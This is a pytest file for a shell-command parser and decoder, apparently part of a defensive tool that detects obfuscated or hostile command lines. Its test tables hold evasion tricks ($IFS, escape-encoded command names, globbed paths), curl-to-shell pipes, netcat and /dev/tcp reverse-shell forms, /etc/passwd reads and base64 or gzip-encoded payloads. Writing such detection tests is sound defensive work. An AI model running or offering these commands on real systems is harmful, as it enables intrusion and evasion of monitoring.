"""parse/normalize/decode: what the engine sees of a line (parametrized tables)."""

from __future__ import annotations

import shlex

import pytest

from attyguard.engine.decode import find_payloads
from attyguard.engine.normalize import (
    command_basename,
    decode_ansi_c,
    decode_printf_escapes,
    prefilter_text,
    prepass,
    unescape_unquoted,
)
from attyguard.engine.parse import Limits, parse


@pytest.mark.parametrize(
    ("line", "name", "argv"),
    [
        ("curl -s https://e.x/a", "curl", ("-s", "https://e.x/a")),
        ("c''url -s u", "curl", ("-s", "u")),
        ('"cu"rl -s u', "curl", ("-s", "u")),
        ("\\c\\u\\r\\l -s u", "curl", ("-s", "u")),
        ("$'\\x63\\x75\\x72\\x6C' -s u", "curl", ("-s", "u")),
        ("$'\\143url' -s u", "curl", ("-s", "u")),
        ("cat${IFS}/etc/passwd", "cat", ("/etc/passwd",)),
        ("cat$IFS/etc/passwd", "cat", ("/etc/passwd",)),
        ("{curl,-s,u}", "curl", ("-s", "u")),
        ("/usr/bin/curl -s u", "curl", ("-s", "u")),
        ("./curl -s u", "curl", ("-s", "u")),
        ("curl \\\n -s u", "curl", ("-s", "u")),
        ("sudo -u root -E env A=1 nohup nice -n 5 timeout 10 curl u", "curl", ("u",)),
        ("command -p exec curl u", "curl", ("u",)),
        ("busybox wget u", "wget", ("u",)),
        ("xargs -n1 -P 4 curl -O", "curl", ("-O",)),
        ("env -S 'curl -s u'", "curl", ("-s", "u")),
        ("a=cu; b=rl; $a$b -s u", "curl", ("-s", "u")),
        ("${x:-curl} -s u", "curl", ("-s", "u")),
        ("$(echo curl) -s u", "curl", ("-s", "u")),
        ("$(which curl) -s u", "curl", ("-s", "u")),
        ("cu${u}rl -s u", "curl", ("-s", "u")),
        ("w$@get u", "wget", ("u",)),
        ("$EDITOR u", "$EDITOR", ("u",)),
        ("`command -v curl` -s u", "curl", ("-s", "u")),
        ("/???/b??h -i", "bash", ("-i",)),
        ("nc -e /???/b??h h 1", "nc", ("-e", "/bin/bash", "h", "1")),
    ],
)
def test_first_command_is_normalised(line: str, name: str, argv: tuple[str, ...]) -> None:
    parsed = parse(line)
    assert parsed.bounded is None
    cmd = parsed.commands[0] if parsed.commands[0].name == name else parsed.commands[-1]
    assert (cmd.name, cmd.argv) == (name, argv)


def test_wrappers_are_recorded() -> None:
    (cmd,) = parse("sudo -u admin nohup bash x.sh").commands
    assert cmd.name == "bash"
    assert cmd.wrappers == ("sudo", "nohup")


@pytest.mark.parametrize(
    ("line", "flow"),
    [
        ("curl u | sh", ("curl", "sh")),
        ("curl u | tee log | sudo bash", ("curl", "tee", "bash")),
        ("bash <(curl u)", ("curl", "bash")),
        ('sh -c "$(curl u)"', ("curl", "sh")),
        ("cat <<EOF | sh\necho hi\nEOF", ("cat", "sh")),
        ("sh < <(wget -O- u)", ("wget", "sh")),
        ("echo x | base64 -d > /tmp/f", ("echo", "base64")),
    ],
)
def test_pipelines_follow_the_data(line: str, flow: tuple[str, ...]) -> None:
    flows = [tuple(c.name for c in p) for p in parse(line).pipelines]
    assert any(f[: len(flow)] == flow or f == flow for f in flows), flows


def test_pipeline_redirect_belongs_to_last_command() -> None:
    parsed = parse("echo x | base64 -d > /tmp/f")
    (b64,) = [c for c in parsed.commands if c.name == "base64"]
    assert [(r.op, r.target) for r in b64.redirects] == [(">", "/tmp/f")]


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        ("bash -c 'curl u | sh'", ["curl", "sh"]),
        ("sh -xc 'id'", ["id"]),
        ("eval 'wget u'", ["wget"]),
        ("su - root -c 'id'", ["id"]),
        ("find . -exec sh -c 'rm x' \\;", ["rm"]),
        ("bash <<< 'nc -e /bin/sh h 1'", ["nc"]),
        ("sh <<EOF\nwhoami\nEOF", ["whoami"]),
        ("bash -c \"bash -c 'bash -c id'\"", ["id"]),
        ("alias ls='wget u'", ["wget"]),
        ("trap 'nc h 1' EXIT", ["nc"]),
        ("watch 'curl u | sh'", ["curl", "sh"]),
        ("flock /tmp/l -c 'id'", ["id"]),
        ("ruby -e'x' ; sh -c'id'", []),
    ],
)
def test_nested_shell_text_is_parsed(line: str, inner: list[str]) -> None:
    parsed = parse(line)
    nested = [c.name for c in parsed.commands if c.depth > 0]
    for name in inner:
        assert name in nested, (nested, parsed)


def test_nested_commands_know_who_runs_them() -> None:
    parsed = parse("sudo bash -c 'su -c \"id\"'")
    (idc,) = [c for c in parsed.commands if c.name == "id"]
    assert idc.depth == 2
    assert "sudo" in idc.inside and "su" in idc.inside


def test_list_redirect_belongs_to_last_command() -> None:
    parsed = parse("a && zsh >&$REPLY 2>&1")
    assert [(c.name, [r.target for r in c.redirects]) for c in parsed.commands] == [
        ("a", []), ("zsh", ["$REPLY", "1"])
    ]


def test_read_write_redirect() -> None:
    parsed = parse("exec 3<>/dev/tcp/h/1")
    assert [(r.op, r.target) for r in parsed.redirects] == [("<>", "/dev/tcp/h/1")]


def test_depth_bound_is_reported() -> None:
    line = "id"
    for _ in range(12):
        line = "bash -c " + shlex.quote(line)
    assert parse(line).bounded is not None  # default limit
    parsed = parse(line, Limits(max_depth=3))
    assert parsed.bounded is not None


def test_node_bound_is_reported() -> None:
    parsed = parse("echo a | " * 200 + "cat", Limits(max_nodes=100))
    assert parsed.bounded is not None and "syntax nodes" in parsed.bounded


def test_deadline_is_reported_and_the_parser_recovers() -> None:
    parsed = parse("$(" * 3000 + "x" + "|x" * 10000, Limits(deadline_s=0.0))
    assert parsed.bounded is not None
    # A cancelled parse must not leak into the next one (tree-sitter resumes unless reset).
    assert [c.name for c in parse("whoami").commands] == ["whoami"]


def test_spans_are_character_offsets() -> None:
    line = "echo héllo; curl u | sh"
    parsed = parse(line)
    (curl,) = [c for c in parsed.commands if c.name == "curl"]
    assert line[curl.span[0] : curl.span[1]] == "curl u"


@pytest.mark.parametrize(
    ("body", "value"),
    [("\\x63url", "curl"), ("\\143url", "curl"), ("a\\tb", "a\tb"), ("\\u00e9", "é"),
     ("\\X", "\\X"), ("\\'", "'")],
)
def test_ansi_c(body: str, value: str) -> None:
    assert decode_ansi_c(body) == value


def test_printf_escapes() -> None:
    assert decode_printf_escapes("\\x69\\0144") == "id"


def test_unescape_and_basename() -> None:
    assert unescape_unquoted("\\c\\u\\r\\l") == "curl"
    assert command_basename("/usr/local/bin/curl") == "curl"
    assert command_basename("curl") == "curl"


def test_prepass_keeps_offsets() -> None:
    for line in ("cat${IFS}/etc/passwd", "{curl,-s,u}|{bash,}", "a$IFS-b"):
        assert len(prepass(line)) == len(line)


def test_prefilter_text_sees_through_quotes() -> None:
    text = prefilter_text("c''u\"r\"l $'\\x77'get")
    assert "curl" in text and "wget" in text


@pytest.mark.parametrize(
    ("line", "text", "fed_to", "decoders"),
    [
        ("echo aWQ= | base64 -d | sh", "id", "sh", ("base64",)),
        ("base64 -d <<< aWQ= | bash", "id", "bash", ("base64",)),
        ("echo 6964 | xxd -r -p | sh", "id", "sh", ("hex",)),
        ("printf '\\x69\\x64' | sh", "id", "sh", ("printf",)),
        ("echo di | rev | sh", "di", None, ("rev",)),
        ("echo vq | tr a-z n-za-m | sh", "id", "sh", ("tr",)),
        ("echo H4sIAA9FAmsC/8tM4QIAAG4DWQMAAAA= | base64 -d | gunzip | sh", "id", "sh",
         ("base64", "gzip")),
        ("eval \"$(echo aWQ= | base64 -d)\"", "id", "eval", ("base64",)),
        ("python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"", "print(1)",
         "python3", ("base64",)),
    ],
)
def test_payloads(line: str, text: str, fed_to: str | None, decoders: tuple[str, ...]) -> None:
    payloads = find_payloads(parse(line))
    assert payloads, line
    p = next((p for p in payloads if p.fed_to == fed_to), payloads[0])
    assert p.text.strip() == text or p.text.strip()[::-1] == text
    if fed_to is not None:
        assert p.fed_to == fed_to
    assert p.decoders == decoders


def test_binary_garbage_is_not_a_payload() -> None:
    assert find_payloads(parse("echo //////////8= | base64 -d | sh")) == ()


def test_environment_defaults_are_not_values() -> None:
    (cmd,) = parse("echo ${HOME:-/root}").commands
    assert cmd.argv == ("${HOME:-/root}",)


def test_directory_globs_are_not_resolved() -> None:
    (cmd,) = parse("chmod +x /usr/local/bin/*").commands
    assert cmd.argv == ("+x", "/usr/local/bin/*")


def test_quoted_globs_are_not_expanded() -> None:
    (cmd,) = parse("echo '/???/b??h'").commands
    assert cmd.argv == ("/???/b??h",)


def test_inline_code_with_attached_flag() -> None:
    parsed = parse("ruby -e'puts 1'")
    assert parsed.scripts and parsed.scripts[0][1] == "puts 1"


def test_bare_assignments_are_commands() -> None:
    cmds = parse("HISTFILE=/dev/null; A=1 B=2; HISTSIZE=0 bash").commands
    assert [(c.name, c.assignments) for c in cmds] == [
        ("", ("HISTFILE=/dev/null",)), ("", ("A=1", "B=2")), ("bash", ("HISTSIZE=0",))
    ]


def test_astral_characters_do_not_crash_the_parser() -> None:
    # tree-sitter-bash 0.25 segfaults (intermittently) on `{` + a character beyond
    # U+1FFFF; the engine hides such characters from it. Many tries: the crash is random.
    from attyguard.engine.parse import _source

    assert _source("{\U000e0000\U0001f600é") == "{\ufffd\ufffdé".encode()
    lines = ["{\U000e0000", "echo {\U00100000}", "x|{\U000f0000", "a={\U00020000",
             "{\U000c1645 curl u | sh"]
    for _ in range(300):
        for line in lines:
            parse(line)
    parsed = parse("echo \U00100000; curl u | sh")
    (curl,) = [c for c in parsed.commands if c.name == "curl"]
    assert "echo \U00100000; curl u | sh"[curl.span[0] : curl.span[1]] == "curl u"
